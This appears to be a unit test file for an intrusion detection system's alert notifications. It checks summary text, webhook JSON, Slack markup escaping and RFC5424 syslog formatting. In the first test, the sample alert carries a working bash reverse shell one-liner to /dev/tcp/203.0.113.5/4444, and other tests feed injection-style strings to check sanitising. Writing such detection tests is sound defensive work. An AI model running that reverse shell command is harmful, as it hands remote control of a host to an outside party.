from __future__ import annotations

import re

from elkeid.server.notify import slack_json, summary, syslog_message, webhook_json
from tests.unit.server.notify._alerts import alert

RFC5424 = re.compile(rb'^<(\d{1,3})>1 (\S+) (\S+) (\S+) (\S+) (\S+) (-|\[(?:[^\]\\"]|\\.|"(?:[^"\\]|\\.)*")*\]) (.*)$', re.S)


def test_summary_and_webhook_body():
    assert summary(alert(count=3)) == ("[critical] Reverse shell through /dev/tcp or /dev/udp on web-1 (agent a1) (x3): "
                                       "/usr/bin/bash bash -i >& /dev/tcp/203.0.113.5/4444 0>&1")  # fmt: skip
    body = webhook_json(alert())
    assert body["type"] == "elkeid.alert" and body["version"] == 1 and body["alert"]["rule_id"] == "reverse_shell_dev_tcp"


def test_slack_message_escapes_markup():
    msg = slack_json(alert(rule_name="<!channel> & friends", event={"argv": "<script>"}))
    assert "<!channel>" not in msg["text"] and "&lt;!channel&gt; &amp; friends" in msg["text"]
    (attachment,) = msg["attachments"]
    assert attachment["color"] == "#7b0000" and attachment["ts"] == 1700000000
    assert {"title": "Command line", "value": "&lt;script&gt;", "short": True} in attachment["fields"]


def test_syslog_message_is_rfc5424():
    raw = syslog_message(alert(), facility=16, hostname="hids", app_name="elkeid")
    m = RFC5424.match(raw)
    assert m, raw
    pri, stamp, host, app, procid, msgid, sd, msg = m.groups()
    assert int(pri) == 16 * 8 + 2  # local0, critical
    assert stamp == b"2023-11-14T22:13:20.500000Z" and host == b"hids" and app == b"elkeid" and msgid == b"alert"
    assert procid.isdigit()
    assert sd.startswith(b'[elkeid@32473 rule_id="reverse_shell_dev_tcp" severity="critical" agent_id="a1"')
    assert msg.startswith(b"\xef\xbb\xbf[critical] Reverse shell")


def test_syslog_escapes_and_sanitises_hostile_strings():
    raw = syslog_message(alert(hostname='x"] [evil', agent_id="a\\b"), hostname="bad host\n", app_name="")
    m = RFC5424.match(raw)
    assert m.group(3) == b"badhost" and m.group(4) == b"-"
    assert b'hostname="x\\"\\] [evil"' in m.group(7) and b'agent_id="a\\\\b"' in m.group(7)


def test_syslog_json_body_and_truncation():
    raw = syslog_message(alert(), body="json", hostname="h")
    assert b'"rule_id": "reverse_shell_dev_tcp"' in raw
    short = syslog_message(alert(description="x" * 5000), body="json", hostname="h", max_bytes=600)
    assert len(short) <= 600 and RFC5424.match(short)
    assert syslog_message(alert(severity="low"), facility=4, hostname="h").startswith(b"<37>1 ")
